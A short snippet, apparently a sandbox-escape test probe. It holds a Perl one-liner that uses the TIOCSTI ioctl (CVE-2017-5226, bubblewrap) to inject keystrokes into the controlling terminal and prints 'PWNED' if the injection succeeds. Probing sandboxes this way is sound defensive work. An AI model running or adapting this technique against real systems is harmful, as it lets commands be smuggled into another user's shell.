# tries: type into the terminal of whoever started the server
# from: TIOCSTI, CVE-2017-5226 of bubblewrap itself
perl -e 'open(T, "+<", "/dev/tty") && ioctl(T, 0x5412, "x") && print "PWNED\n"'
